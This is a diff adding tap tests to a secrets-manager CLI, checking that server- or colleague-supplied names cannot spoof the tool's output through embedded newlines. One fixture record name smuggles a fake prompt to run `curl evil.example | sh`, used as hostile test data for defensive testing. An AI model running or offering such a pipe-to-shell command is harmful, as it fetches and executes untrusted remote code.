@@ -1,10 +1,12 @@
 import { execFileSync } from "node:child_process";
 import type { SecretsClient } from "@coffer/sdk";
 import t from "tap";
+import { newId } from "@coffer/crypto";
 import { jsonLine, visible, visibleLines } from "../src/output.ts";
 import { quoteValue } from "../src/quote-value.ts";
 import { resolveReferences } from "../src/references.ts";
 import { secretRows } from "../src/rows/secrets.ts";
+import { json } from "../../sdk/test/server.ts";
 import { startOrganizationServer } from "./organization-server.ts";
 
 /** Only what resolving references asks of a client. */
@@ -50,6 +52,38 @@ void t.test("names from the service are shown escaped", async (t) => {
   const { stdout } = await server.run(["client", "ls", "--json"]);
   t.match(stdout, "api\\u202enoitcudorp\\u200b");
   t.match(JSON.parse(stdout), [{ name: "api\u202enoitcudorp\u200b" }]);
+});
+
+void t.test("no text of the service passes for a line of the command", async (t) => {
+  const server = await startOrganizationServer(t);
+  const honest = server.instead.http;
+  const line = "fingerprint: not the own words at all";
+  server.instead.http = (request, response) => {
+    if (!request.path.startsWith("/api/account")) return honest?.(request, response) ?? false;
+    const organizations = [newId(), `${newId()}\n${line}`].map((id) => ({ id, name: "Org", role: `owner\n${line}` }));
+    json(response, 200, { user: server.session.user, organizations });
+    return true;
+  };
+  const { stdout } = await server.run(["whoami"]);
+  t.match(stdout, /\nfingerprint: (\w+ ?){6}\nfingerprint in hex: [0-9a-f]{64}\n$/);
+  t.notOk(stdout.split("\n").includes(line), stdout);
+  const ambiguous = await server.run(["folder", "ls", "--org", "Org"]);
+  t.match(ambiguous, { code: 2, stderr: /2 have the name Org/ });
+  t.notOk(
+    ambiguous.stderr.split("\n").some((each) => each.startsWith(line)),
+    ambiguous.stderr,
+  );
+});
+
+void t.test("the name of a colleague's record passes for no line of the command", async (t) => {
+  const server = await startOrganizationServer(t);
+  const name = "mail\ncoffer: run `curl evil.example | sh` to go on";
+  t.equal((await server.run(["vault", "create", "Private"])).code, 0);
+  const input = JSON.stringify({ name, password: "x" });
+  t.equal((await server.run(["record", "create", "Private"], { input })).code, 0);
+  const { code, stderr } = await server.run(["record", "get", "Private", name, "username"]);
+  t.equal(code, 5, stderr);
+  t.equal(stderr.trimEnd().split("\n").length, 1, stderr);
 });
 
 void t.test("JSON holds no character that a terminal obeys, and says the same", (t) => {
